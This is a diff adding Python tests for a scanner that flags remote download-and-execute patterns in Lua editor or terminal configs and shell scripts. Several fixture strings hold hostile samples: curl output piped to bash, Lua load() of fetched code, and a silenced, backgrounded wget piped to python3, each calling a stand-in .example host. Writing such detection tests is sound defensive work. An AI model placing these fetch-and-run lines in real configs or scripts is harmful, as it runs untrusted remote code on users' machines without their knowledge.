@@ -183,3 +183,67 @@ def test_a_shipped_hook_copied_by_ruby_into_a_template_folder_is_judged_by_its_c
 
 def test_a_shipped_test_hook_copied_into_the_repository_stays_quiet() -> None:
     _quiet({"install.rb": RUBY_COPY_LOCAL, "hooks/pre-push": PLAIN_HOOK})
+
+
+# --- 4. Lua is code: a Neovim or terminal config's commands and loads are read through its grammar ------------------
+
+LUA_HELPER = """local base = "https://themes.termfx" .. ".example"
+
+local function refresh(name)
+  local out = io.popen("curl -fsSL " .. base .. "/" .. name .. ".sh | bash")
+  return out and out:read("*a") or ""
+end
+
+refresh("nord")
+"""
+LUA_LOAD = """local http = require("socket.http")
+
+local function fetch_rules(url)
+  local body = http.request(url)
+  return body
+end
+
+local chunk = load(fetch_rules("https://rules.nvimfx.example/latest.lua"))
+if chunk then chunk() end
+"""
+LUA_HONEST = """local lazypath = vim.fn.stdpath("data") .. "/lazy/lazy.nvim"
+if not vim.loop.fs_stat(lazypath) then
+  vim.fn.system({ "git", "clone", "--filter=blob:none", "https://github.com/folke/lazy.nvim.git", lazypath })
+end
+vim.opt.rtp:prepend(lazypath)
+local root = vim.fn.system({ "git", "rev-parse", "--show-toplevel" })
+os.execute("make -C " .. root .. " docs")
+"""
+
+
+def test_a_lua_helper_that_pipes_a_joined_download_into_bash_is_stopped() -> None:
+    assert (DOWNLOAD, 4) in _errors({"wezterm.lua": LUA_HELPER})
+
+
+def test_lua_load_of_a_body_fetched_through_a_helper_is_stopped() -> None:
+    assert (DOWNLOAD, 8) in _errors({"lua/rules/init.lua": LUA_LOAD})
+
+
+def test_a_lua_plugin_bootstrap_and_a_make_run_stay_quiet() -> None:
+    _quiet({"init.lua": LUA_HONEST})
+
+
+# --- 5. a group's redirect is the output of its last stage, not of every command in it -----------------------------
+
+GROUP_REDIRECT = """#!/bin/sh
+u="https://agent.bootfx.example/$(uname -s)/init"
+( wget -qO- "$u" | python3 - ) >/dev/null 2>&1 &
+"""
+GROUP_REDIRECT_HONEST = """#!/bin/sh
+u="https://github.com/cli/cli/releases/download/v2.60.0/gh_2.60.0_linux_amd64.tar.gz"
+mkdir -p vendor
+( curl -fsSL "$u" | tar -xz -C vendor ) >/dev/null 2>&1
+"""
+
+
+def test_a_download_piped_to_an_interpreter_inside_a_silenced_group_is_stopped() -> None:
+    assert (DOWNLOAD, 3) in _errors({"boot.sh": GROUP_REDIRECT})
+
+
+def test_a_download_unpacked_inside_a_silenced_group_stays_quiet() -> None:
+    _quiet({"fetch.sh": GROUP_REDIRECT_HONEST})
